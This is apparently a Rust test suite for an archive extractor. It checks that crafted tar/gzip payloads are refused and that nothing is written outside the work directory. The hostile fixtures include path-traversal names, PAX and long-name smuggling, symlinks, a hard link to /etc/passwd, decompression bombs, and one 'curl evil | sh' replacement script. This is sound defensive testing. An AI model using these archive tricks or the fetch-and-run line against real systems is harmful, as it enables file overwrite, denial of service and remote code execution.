//! Hostile and broken payload archives: each is refused with the precise error, and nothing lands outside the work dir.
//!
//! Every case is unpacked with [`extract`] into a fresh `work/` directory
//! inside its own parent temp dir, so "nothing was written outside" can be
//! checked by looking at the parent: it must hold `work/` and nothing else.
//! Targets an escape would create further out (`/tmp/cronium-escape-…`)
//! carry a unique name and are checked not to exist. The same archives then
//! go through [`read_manifest`], which must refuse them the same way.

use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU32, Ordering};

use cronium_payload::testing::{
    RawEntry, archive, directory_data_bomb, gzip, gzip_bomb, long_name_bomb, payload_entries, tar,
    valid_manifest,
};
use cronium_payload::{
    ExtractError, Interpreter, Limits, ManifestError, extract, read_manifest, read_script,
};
use tar::EntryType;

const SCRIPT: &[u8] = b"#!/bin/bash\necho hello\n";
const MIB: u64 = 1024 * 1024;
const GIB: u64 = 1024 * MIB;

/// The refusal a case expects: the error variant and everything it says.
#[derive(Debug)]
enum Refusal {
    Unsafe {
        name: String,
        reason: &'static str,
    },
    TooManyEntries(usize),
    TooLarge {
        limit: u64,
        name: &'static str,
    },
    Duplicate(&'static str),
    /// The message comes from the gzip or tar reader; this is a part of it.
    Corrupt(&'static str),
    MissingManifest,
    MissingEntrypoint(&'static str),
    BadManifestField(&'static str),
    ManifestSyntax,
}

struct Case {
    what: &'static str,
    archive: Vec<u8>,
    limits: Limits,
    refusal: Refusal,
    /// Where an escape would have written, relative to the work dir (or absolute).
    escapes: Vec<String>,
}

fn case(what: &'static str, archive: Vec<u8>, refusal: Refusal) -> Case {
    Case {
        what,
        archive,
        limits: Limits::default(),
        refusal,
        escapes: Vec::new(),
    }
}

impl Case {
    fn limits(mut self, max_entries: usize, max_unpacked_bytes: u64) -> Case {
        self.limits = Limits {
            max_entries,
            max_unpacked_bytes,
        };
        self
    }

    fn escaping_to(mut self, path: impl Into<String>) -> Case {
        self.escapes.push(path.into());
        self
    }
}

fn unsafe_entry(name: impl Into<String>, reason: &'static str) -> Refusal {
    Refusal::Unsafe {
        name: name.into(),
        reason,
    }
}

/// A name no other test run uses, for escape targets.
fn unique(tag: &str) -> String {
    static NEXT: AtomicU32 = AtomicU32::new(0);
    format!(
        "cronium-escape-{tag}-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    )
}

/// A valid bash payload with `extra` entries after its manifest and script.
fn payload_then(extra: Vec<RawEntry>) -> Vec<u8> {
    let mut entries = payload_entries("bash", SCRIPT);
    entries.extend(extra);
    archive(&entries)
}

fn manifest_file(text: impl AsRef<[u8]>) -> RawEntry {
    RawEntry::file("manifest.yaml", text)
}

fn script_file() -> RawEntry {
    RawEntry::file("script.sh", SCRIPT)
}

/// A fresh, empty work dir inside a parent dir of its own.
struct Sandbox {
    parent: tempfile::TempDir,
    dest: PathBuf,
}

impl Sandbox {
    fn new() -> Sandbox {
        let parent = tempfile::tempdir().unwrap();
        let dest = parent.path().join("work");
        fs::create_dir(&dest).unwrap();
        Sandbox { parent, dest }
    }

    /// Nothing beside the work dir, no link or special file inside it, and
    /// none of `escapes` (relative to the work dir, or absolute) exists.
    fn assert_contained(&self, what: &str, escapes: &[String]) {
        let beside: Vec<_> = fs::read_dir(self.parent.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(
            beside,
            ["work"],
            "{what}: something was written beside the work dir"
        );
        assert_only_files_and_dirs(what, &self.dest);
        for escape in escapes {
            let target = self.dest.join(escape);
            assert!(
                fs::symlink_metadata(&target).is_err(),
                "{what}: {} was created",
                target.display()
            );
        }
    }
}

fn assert_only_files_and_dirs(what: &str, dir: &Path) {
    for entry in fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        assert!(
            kind.is_file() || kind.is_dir(),
            "{what}: {} is neither a file nor a directory",
            entry.path().display()
        );
        if kind.is_dir() {
            assert_only_files_and_dirs(what, &entry.path());
        }
    }
}

/// The error's message, cut short: some hostile names are megabytes long.
fn short(err: &ExtractError) -> String {
    err.to_string().chars().take(300).collect()
}

/// `None` if `result` is the refusal wanted, else what went wrong.
fn refusal_mismatch<T>(result: Result<T, ExtractError>, want: &Refusal) -> Option<String> {
    let err = match result {
        Ok(_) => return Some(format!("expected {want:?}, but it was accepted")),
        Err(err) => err,
    };
    let matches = match (&err, want) {
        (ExtractError::Unsafe { name, reason }, Refusal::Unsafe { name: n, reason: r }) => {
            name == n && reason == r
        }
        (ExtractError::TooManyEntries { limit }, Refusal::TooManyEntries(l)) => limit == l,
        (ExtractError::TooLarge { limit, name }, Refusal::TooLarge { limit: l, name: n }) => {
            limit == l && name == n
        }
        (ExtractError::Duplicate(name), Refusal::Duplicate(n)) => name == n,
        (ExtractError::Corrupt(message), Refusal::Corrupt(part)) => message.contains(part),
        (ExtractError::MissingManifest, Refusal::MissingManifest) => true,
        (ExtractError::MissingEntrypoint(name), Refusal::MissingEntrypoint(n)) => name == n,
        (ExtractError::Manifest(e), Refusal::BadManifestField(field)) => e.field() == Some(field),
        (ExtractError::Manifest(ManifestError::Syntax(_)), Refusal::ManifestSyntax) => true,
        _ => false,
    };
    (!matches).then(|| format!("expected {want:?}, got: {}", short(&err)))
}

fn hostile_cases() -> Vec<Case> {
    let tmp = std::env::temp_dir();
    let absolute = tmp.join(unique("absolute")).display().to_string();
    let symlink_target = tmp.join(unique("symlink")).display().to_string();
    let evil = format!("../{}", unique("dotdot"));
    let hidden = unique("hidden");
    let deep = format!("../../{}", unique("deep"));
    let through_link = unique("through-link");
    let pax_evil = format!("../{}", unique("pax"));
    let long_target = unique("long");
    let long_evil = format!("{}/../../{long_target}", "d".repeat(120));
    let bomb_limit = Limits::default().max_unpacked_bytes;

    let mut truncated_tar = tar(&payload_entries("bash", SCRIPT));
    truncated_tar.truncate(512 + 512 + 512 + 10); // inside the script's data
    let good = archive(&payload_entries("bash", SCRIPT));
    let mut bad_header_checksum = tar(&payload_entries("bash", SCRIPT));
    bad_header_checksum[0] = b'M'; // "manifest.yaml" -> "Manifest.yaml", checksum unchanged
    let mut bad_crc = good.clone();
    let crc_at = bad_crc.len() - 8;
    bad_crc[crc_at] ^= 0xff;

    vec![
        // Names that point outside the work dir.
        case(
            "absolute path",
            payload_then(vec![RawEntry::file(&absolute, "pwned")]),
            unsafe_entry(&absolute, "absolute paths are not allowed"),
        )
        .escaping_to(&absolute),
        case(
            "`..` traversal",
            payload_then(vec![RawEntry::file(&evil, "pwned")]),
            unsafe_entry(&evil, "`..` components are not allowed"),
        )
        .escaping_to(&evil),
        case(
            "`..` hidden behind a directory",
            payload_then(vec![RawEntry::file(format!("a/../../{hidden}"), "pwned")]),
            unsafe_entry(
                format!("a/../../{hidden}"),
                "`..` components are not allowed",
            ),
        )
        .escaping_to(format!("../{hidden}")),
        case(
            "`..` two levels up",
            payload_then(vec![RawEntry::file(&deep, "pwned")]),
            unsafe_entry(&deep, "`..` components are not allowed"),
        )
        .escaping_to(&deep),
        case(
            "`..` after `./`",
            payload_then(vec![RawEntry::file(format!("./{evil}"), "pwned")]),
            unsafe_entry(format!("./{evil}"), "`..` components are not allowed"),
        )
        .escaping_to(&evil),
        case(
            "PAX path record smuggling `..` past the header name",
            payload_then(vec![
                RawEntry::pax(&[("path", pax_evil.as_bytes())]),
                RawEntry::file("innocent.txt", "pwned"),
            ]),
            unsafe_entry(&pax_evil, "`..` components are not allowed"),
        )
        .escaping_to(&pax_evil),
        case(
            "GNU long name hiding `..` past the first 100 bytes",
            payload_then(vec![RawEntry::file(&long_evil, "pwned")]),
            unsafe_entry(&long_evil, "`..` components are not allowed"),
        )
        .escaping_to(format!("../{long_target}")),
        case(
            "name that is not UTF-8",
            payload_then(vec![RawEntry::file(b"bad\xff", "x")]),
            unsafe_entry("bad\u{fffd}", "name is not UTF-8"),
        ),
        // Entry types that are not plain files or directories.
        case(
            "symlink to an absolute path",
            payload_then(vec![RawEntry::symlink("link", &symlink_target)]),
            unsafe_entry("link", "symbolic links are not allowed"),
        )
        .escaping_to(&symlink_target),
        case(
            "symlink, then a file written through it",
            payload_then(vec![
                RawEntry::symlink("up", ".."),
                RawEntry::file(format!("up/{through_link}"), "pwned"),
            ]),
            unsafe_entry("up", "symbolic links are not allowed"),
        )
        .escaping_to(format!("../{through_link}")),
        case(
            "symlink standing in for the entrypoint",
            archive(&[
                manifest_file(valid_manifest("bash")),
                RawEntry::symlink("script.sh", "/bin/sh"),
            ]),
            unsafe_entry("script.sh", "symbolic links are not allowed"),
        ),
        case(
            "hard link",
            payload_then(vec![RawEntry::hardlink("passwd", "/etc/passwd")]),
            unsafe_entry("passwd", "hard links are not allowed"),
        ),
        case(
            "character device",
            payload_then(vec![RawEntry::char_device("null")]),
            unsafe_entry("null", "device files are not allowed"),
        ),
        case(
            "block device",
            payload_then(vec![RawEntry::block_device("sda")]),
            unsafe_entry("sda", "device files are not allowed"),
        ),
        case(
            "FIFO",
            payload_then(vec![RawEntry::fifo("pipe")]),
            unsafe_entry("pipe", "FIFOs are not allowed"),
        ),
        case(
            "GNU volume label",
            payload_then(vec![RawEntry::of_kind("label", EntryType::new(b'V'), "")]),
            unsafe_entry("label", "unsupported entry type"),
        ),
        // Limits.
        case(
            "one entry more than a custom limit",
            payload_then(vec![RawEntry::file("a", "1"), RawEntry::file("b", "2")]),
            Refusal::TooManyEntries(3),
        )
        .limits(3, MIB),
        case(
            "one entry more than the default limit",
            payload_then((0..63).map(|i| RawEntry::dir(format!("d{i}/"))).collect()),
            Refusal::TooManyEntries(64),
        ),
        case(
            "gzip bomb one byte past the default limit",
            gzip_bomb(bomb_limit + 1),
            Refusal::TooLarge {
                limit: bomb_limit,
                name: "script.sh",
            },
        ),
        case(
            "gzip bomb past a custom limit",
            gzip_bomb(2 * MIB),
            Refusal::TooLarge {
                limit: MIB,
                name: "script.sh",
            },
        )
        .limits(64, MIB),
        case(
            "files that fit the limit alone but not together",
            archive(&[
                RawEntry::file("a", vec![b'a'; 600]),
                RawEntry::file("b", vec![b'b'; 600]),
            ]),
            Refusal::TooLarge {
                limit: 1000,
                name: "b",
            },
        )
        .limits(64, 1000),
        case(
            "PAX size record beyond the limit under a small header size",
            archive(&[
                manifest_file(valid_manifest("bash")),
                RawEntry::pax(&[("size", b"2000000")]),
                script_file(),
            ]),
            Refusal::TooLarge {
                limit: MIB,
                name: "script.sh",
            },
        )
        .limits(64, MIB),
        case(
            "GNU long name of 8 MiB, buffered whole by the tar reader",
            long_name_bomb(8 * MIB),
            Refusal::TooLarge {
                limit: MIB,
                name: "(archive headers)",
            },
        )
        .limits(64, MIB),
        case(
            "directory carrying 8 MiB of data the tar reader skips",
            payload_then(vec![RawEntry::of_kind(
                "d/",
                EntryType::Directory,
                vec![0; 8 * MIB as usize],
            )]),
            Refusal::TooLarge {
                limit: MIB,
                name: "d/",
            },
        )
        .limits(64, MIB),
        // Entries that contradict each other.
        case(
            "script twice, the second replacing the first",
            payload_then(vec![RawEntry::file("script.sh", "curl evil | sh\n")]),
            Refusal::Duplicate("script.sh"),
        ),
        case(
            "manifest twice under two spellings",
            payload_then(vec![
                manifest_file(valid_manifest("python")).with_name("./manifest.yaml"),
            ]),
            Refusal::Duplicate("manifest.yaml"),
        ),
        case(
            "directory and file of the same name",
            payload_then(vec![RawEntry::dir("lib/"), RawEntry::file("lib", "x")]),
            Refusal::Duplicate("lib"),
        ),
        // Missing or wrong parts.
        case(
            "no manifest",
            archive(&[script_file()]),
            Refusal::MissingManifest,
        ),
        case(
            "manifest that is a directory",
            archive(&[RawEntry::dir("manifest.yaml/"), script_file()]),
            Refusal::MissingManifest,
        ),
        case(
            "no entrypoint",
            archive(&[manifest_file(valid_manifest("bash"))]),
            Refusal::MissingEntrypoint("script.sh"),
        ),
        case(
            "entrypoint that is a directory",
            archive(&[
                manifest_file(valid_manifest("bash")),
                RawEntry::dir("script.sh/"),
            ]),
            Refusal::MissingEntrypoint("script.sh"),
        ),
        case(
            "script under another interpreter's name",
            archive(&[
                manifest_file(valid_manifest("python")),
                script_file(), // script.py expected
            ]),
            Refusal::MissingEntrypoint("script.py"),
        ),
        case(
            "manifest naming the wrong entrypoint",
            archive(&[
                manifest_file(valid_manifest("python").replace("script.py", "script.sh")),
                script_file(),
            ]),
            Refusal::BadManifestField("entrypoint"),
        ),
        case(
            "manifest naming an entrypoint outside the work dir",
            archive(&[
                manifest_file(valid_manifest("bash").replace("script.sh", "../script.sh")),
                script_file(),
            ]),
            Refusal::BadManifestField("entrypoint"),
        ),
        case(
            "manifest that is not YAML",
            archive(&[manifest_file("{{{ not yaml"), script_file()]),
            Refusal::ManifestSyntax,
        ),
        case(
            "manifest that is not UTF-8",
            archive(&[manifest_file(b"version: v1\xff\n"), script_file()]),
            Refusal::ManifestSyntax,
        ),
        // Bytes that are not a payload at all, or not all of one.
        case(
            "empty input",
            Vec::new(),
            Refusal::Corrupt("unexpected end of file"),
        ),
        case(
            "text instead of gzip",
            b"#!/bin/bash\necho this is not a payload\n".to_vec(),
            Refusal::Corrupt("invalid gzip header"),
        ),
        case(
            "gzip of something that is not tar",
            gzip(b"hello, I am not a tar archive"),
            Refusal::Corrupt("failed to read entire block"),
        ),
        case(
            "gzip cut in the middle",
            good[..good.len() / 2].to_vec(),
            Refusal::Corrupt("deflate"),
        ),
        case(
            "gzip that lost its trailer",
            good[..good.len() - 8].to_vec(),
            Refusal::Corrupt("unexpected end of file"),
        ),
        case(
            "gzip with a wrong CRC",
            bad_crc,
            Refusal::Corrupt("checksum"),
        ),
        case(
            "tar cut short inside the script's data",
            gzip(&truncated_tar),
            Refusal::Corrupt("unexpected EOF"),
        ),
        case(
            "header declaring more data than follows",
            archive(&[
                manifest_file(valid_manifest("bash")),
                script_file().with_declared_size(4096),
            ]),
            Refusal::Corrupt("unexpected EOF"),
        ),
        case(
            "header whose checksum does not match",
            gzip(&bad_header_checksum),
            Refusal::Corrupt("checksum mismatch"),
        ),
    ]
}

#[test]
fn hostile_archives_are_refused_and_nothing_escapes_the_work_dir() {
    let mut failures = Vec::new();
    for case in hostile_cases() {
        let sandbox = Sandbox::new();
        let result = extract(&case.archive[..], &sandbox.dest, &case.limits);
        if let Some(failure) = refusal_mismatch(result, &case.refusal) {
            failures.push(format!("{}: {failure}", case.what));
        }
        sandbox.assert_contained(case.what, &case.escapes);
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn read_manifest_and_read_script_refuse_the_same_archives_the_same_way() {
    let mut failures = Vec::new();
    for case in hostile_cases() {
        let result = read_manifest(&case.archive[..], &case.limits);
        if let Some(failure) = refusal_mismatch(result, &case.refusal) {
            failures.push(format!("{}: {failure}", case.what));
        }
        let result = read_script(&case.archive[..], &case.limits);
        if let Some(failure) = refusal_mismatch(result, &case.refusal) {
            failures.push(format!("{} (read_script): {failure}", case.what));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn refusals_name_the_culprit_in_plain_words() {
    let sandbox = Sandbox::new();
    let table: [(Vec<u8>, Limits, &str); 4] = [
        (
            payload_then(vec![RawEntry::file("../evil", "x")]),
            Limits::default(),
            "unsafe archive entry \"../evil\": `..` components are not allowed",
        ),
        (
            payload_then(vec![RawEntry::symlink("link", "/etc")]),
            Limits::default(),
            "unsafe archive entry \"link\": symbolic links are not allowed",
        ),
        (
            gzip_bomb(2 * MIB),
            Limits {
                max_entries: 64,
                max_unpacked_bytes: MIB,
            },
            "archive unpacks to more than 1048576 bytes (entry \"script.sh\")",
        ),
        (
            archive(&[manifest_file(valid_manifest("bash"))]),
            Limits::default(),
            "payload has no entrypoint \"script.sh\"",
        ),
    ];
    for (bytes, limits, message) in table {
        let dest = sandbox.dest.join(format!("{}", message.len()));
        fs::create_dir(&dest).unwrap();
        let err = extract(&bytes[..], &dest, &limits).unwrap_err();
        assert_eq!(err.to_string(), message);
    }
}

/// What a well-formed payload must extract to.
struct Accepted {
    what: &'static str,
    entries: Vec<RawEntry>,
    interpreter: Interpreter,
    /// Files besides manifest and entrypoint, with their content.
    also: Vec<(&'static str, &'static [u8])>,
}

fn accepted_cases() -> Vec<Accepted> {
    let ok = |what, entries, interpreter| Accepted {
        what,
        entries,
        interpreter,
        also: Vec::new(),
    };
    let global_header = RawEntry::pax(&[("comment", b"4b28729")]);
    vec![
        ok(
            "plain names",
            payload_entries("bash", SCRIPT),
            Interpreter::Bash,
        ),
        ok(
            "`./`-prefixed names",
            vec![
                manifest_file(valid_manifest("bash")).with_name("./manifest.yaml"),
                script_file().with_name("./script.sh"),
            ],
            Interpreter::Bash,
        ),
        ok(
            "a `./` directory entry first, as `tar -C dir .` writes",
            vec![
                RawEntry::dir("./"),
                manifest_file(valid_manifest("bash")).with_name("./manifest.yaml"),
                script_file().with_name("./script.sh"),
            ],
            Interpreter::Bash,
        ),
        ok(
            "interpreter `BASH`",
            payload_entries("BASH", SCRIPT),
            Interpreter::Bash,
        ),
        ok(
            "interpreter `NODEJS`",
            payload_entries("NODEJS", SCRIPT),
            Interpreter::Node,
        ),
        ok(
            "interpreter `Python`",
            payload_entries("Python", SCRIPT),
            Interpreter::Python,
        ),
        ok(
            "PAX records before each file, as Python's tarfile writes them",
            vec![
                RawEntry::pax(&[("mtime", b"1736935200.25")]),
                manifest_file(valid_manifest("bash")),
                RawEntry::pax(&[("mtime", b"1736935200.5")]),
                script_file(),
            ],
            Interpreter::Bash,
        ),
        ok(
            "a PAX global header first, as `git archive` writes",
            vec![
                RawEntry {
                    kind: EntryType::XGlobalHeader,
                    ..global_header.with_name("pax_global_header")
                },
                manifest_file(valid_manifest("bash")),
                script_file(),
            ],
            Interpreter::Bash,
        ),
        Accepted {
            also: vec![("lib/helper.sh", b"helper() { :; }\n")],
            ..ok(
                "a helper in a subdirectory",
                vec![
                    manifest_file(valid_manifest("bash")),
                    RawEntry::dir("lib/"),
                    RawEntry::file("lib/helper.sh", "helper() { :; }\n"),
                    script_file(),
                ],
                Interpreter::Bash,
            )
        },
    ]
}

#[test]
fn well_formed_payloads_in_their_various_spellings_are_accepted() {
    for case in accepted_cases() {
        let what = case.what;
        let bytes = archive(&case.entries);
        let sandbox = Sandbox::new();
        let extracted = extract(&bytes[..], &sandbox.dest, &Limits::default())
            .unwrap_or_else(|e| panic!("{what}: {}", short(&e)));
        assert_eq!(extracted.manifest.interpreter, case.interpreter, "{what}");
        assert_eq!(
            extracted.entrypoint,
            sandbox.dest.join(case.interpreter.entrypoint()),
            "{what}"
        );
        assert_eq!(fs::read(&extracted.entrypoint).unwrap(), SCRIPT, "{what}");
        for (name, content) in &case.also {
            assert_eq!(
                fs::read(sandbox.dest.join(name)).unwrap(),
                *content,
                "{what}"
            );
        }
        sandbox.assert_contained(what, &[]);
        assert!(
            !sandbox.dest.join("manifest.yaml").exists(),
            "{what}: the manifest is not written to the work dir"
        );

        let listing = read_manifest(&bytes[..], &Limits::default())
            .unwrap_or_else(|e| panic!("{what}: {}", short(&e)));
        assert_eq!(listing.manifest, extracted.manifest, "{what}");
        let mut names: Vec<&str> = listing.files.iter().map(|(n, _)| n.as_str()).collect();
        names.sort();
        let mut want = vec!["manifest.yaml", case.interpreter.entrypoint()];
        want.extend(case.also.iter().map(|(n, _)| *n));
        want.sort();
        assert_eq!(names, want, "{what}");

        let (manifest, script) = read_script(&bytes[..], &Limits::default())
            .unwrap_or_else(|e| panic!("{what}: {}", short(&e)));
        assert_eq!(manifest, extracted.manifest, "{what}");
        assert_eq!(script, SCRIPT, "{what}");
    }
}

/// Regression: the size charged against the limit came from the header's
/// size field, while the tar reader honours a PAX `size` record over it, so
/// a script declared as 0 bytes in the header and 23 in a PAX record was
/// unpacked as an empty file.
#[test]
fn pax_size_record_overrides_the_header_size() {
    let bytes = archive(&[
        manifest_file(valid_manifest("bash")),
        RawEntry::pax(&[("size", SCRIPT.len().to_string().as_bytes())]),
        script_file().with_declared_size(0),
    ]);
    let sandbox = Sandbox::new();
    let extracted = extract(&bytes[..], &sandbox.dest, &Limits::default()).unwrap();
    assert_eq!(fs::read(&extracted.entrypoint).unwrap(), SCRIPT);
    let listing = read_manifest(&bytes[..], &Limits::default()).unwrap();
    assert!(
        listing
            .files
            .contains(&("script.sh".to_string(), SCRIPT.len() as u64))
    );
}

/// Regression: a read error in the middle of a file (a truncated download)
/// was reported as "cannot write <work dir>/<file>", blaming the disk.
#[test]
fn truncation_inside_a_file_is_reported_as_corruption_not_as_a_write_error() {
    let big_script: Vec<u8> = (0..200_000u32).flat_map(|i| i.to_le_bytes()).collect();
    let good = archive(&payload_entries("bash", &big_script));
    let sandbox = Sandbox::new();
    let err = extract(&good[..good.len() / 2], &sandbox.dest, &Limits::default()).unwrap_err();
    assert!(
        matches!(err, ExtractError::Corrupt(_)),
        "got: {}",
        short(&err)
    );
}

/// The limits are inclusive: a payload exactly at them is accepted, one
/// byte or one entry more is not.
#[test]
fn limits_are_inclusive() {
    let entries = payload_entries("bash", SCRIPT);
    let total: u64 = entries.iter().map(|e| e.data.len() as u64).sum();
    let bytes = archive(&entries);
    let at = |max_entries, max_unpacked_bytes| {
        let sandbox = Sandbox::new();
        let limits = Limits {
            max_entries,
            max_unpacked_bytes,
        };
        extract(&bytes[..], &sandbox.dest, &limits).map(drop)
    };
    assert!(at(2, total).is_ok());
    assert!(matches!(
        at(2, total - 1),
        Err(ExtractError::TooLarge { name, .. }) if name == "script.sh"
    ));
    assert!(matches!(
        at(1, total),
        Err(ExtractError::TooManyEntries { limit: 1 })
    ));
}

/// A big script within the limit unpacks in full: the limit, not some
/// accident of buffering, is what stops the bombs above.
#[test]
fn a_large_script_within_the_limit_unpacks_in_full() {
    let size = 3 * MIB;
    let sandbox = Sandbox::new();
    let limits = Limits {
        max_entries: 64,
        max_unpacked_bytes: 4 * MIB,
    };
    let extracted = extract(&gzip_bomb(size)[..], &sandbox.dest, &limits).unwrap();
    assert_eq!(fs::metadata(&extracted.entrypoint).unwrap().len(), size);
}

/// A reader that counts the bytes taken from it.
struct Counting<'a> {
    inner: &'a [u8],
    taken: u64,
}

impl Read for Counting<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.taken += n as u64;
        Ok(n)
    }
}

/// Bytes in the regular files under `dir`.
fn bytes_under(dir: &Path) -> u64 {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap())
        .map(|e| match e.file_type().unwrap().is_dir() {
            true => bytes_under(&e.path()),
            false => e.metadata().unwrap().len(),
        })
        .sum()
}

/// Bombs a thousand times the limit: over a gibibyte of zeros in about a
/// megabyte. One declares its size in the script's header; the other hides
/// it in a directory entry's data, which no header check sees and only the
/// cap on the decompressed stream stops. Both are refused having read a
/// sliver of the archive (so the gibibyte was never inflated: that is what
/// keeps this quick), and leave no more than the limit on disk.
#[test]
fn gibibyte_bombs_are_refused_after_a_sliver_leaving_at_most_the_limit_on_disk() {
    let limits = Limits {
        max_entries: 64,
        max_unpacked_bytes: MIB,
    };
    let bombs = [
        ("script.sh of a gibibyte", gzip_bomb(GIB + 1), "script.sh"),
        (
            "a gibibyte in a directory's data",
            directory_data_bomb(GIB + 1),
            "d/",
        ),
    ];
    for (what, bomb, culprit) in bombs {
        assert!(
            bomb.len() < 2 * MIB as usize,
            "{what}: {} bytes",
            bomb.len()
        );
        let sandbox = Sandbox::new();
        let mut reader = Counting {
            inner: &bomb,
            taken: 0,
        };
        let err = extract(&mut reader, &sandbox.dest, &limits)
            .map(drop)
            .unwrap_err();
        assert!(
            matches!(&err, ExtractError::TooLarge { limit: MIB, name } if name == culprit),
            "{what}: {}",
            short(&err)
        );
        // Inflating at most the cap (the limit plus room for headers) reads
        // a few kilobytes of an archive that compresses a thousandfold.
        assert!(
            reader.taken < bomb.len() as u64 / 10,
            "{what}: read {} of {} compressed bytes",
            reader.taken,
            bomb.len()
        );
        let written = bytes_under(&sandbox.dest);
        assert!(written <= MIB, "{what}: {written} bytes written");
        sandbox.assert_contained(what, &[]);

        let mut reader = Counting {
            inner: &bomb,
            taken: 0,
        };
        let err = read_manifest(&mut reader, &limits).map(drop).unwrap_err();
        assert!(
            matches!(&err, ExtractError::TooLarge { limit: MIB, name } if name == culprit),
            "{what}, read_manifest: {}",
            short(&err)
        );
        assert!(
            reader.taken < bomb.len() as u64 / 10,
            "{what}, read_manifest"
        );
    }
}

/// The containment check must itself be able to fail: it notices what an
/// unsafe extractor would leave beside the work dir.
#[test]
#[should_panic(expected = "something was written beside the work dir")]
fn containment_check_notices_a_file_beside_the_work_dir() {
    let sandbox = Sandbox::new();
    fs::write(sandbox.dest.join("../evil"), "x").unwrap();
    sandbox.assert_contained("self-check", &[]);
}

/// …and a link left inside it.
#[test]
#[should_panic(expected = "is neither a file nor a directory")]
fn containment_check_notices_a_link_inside_the_work_dir() {
    let sandbox = Sandbox::new();
    std::os::unix::fs::symlink("/etc", sandbox.dest.join("etc")).unwrap();
    sandbox.assert_contained("self-check", &[]);
}
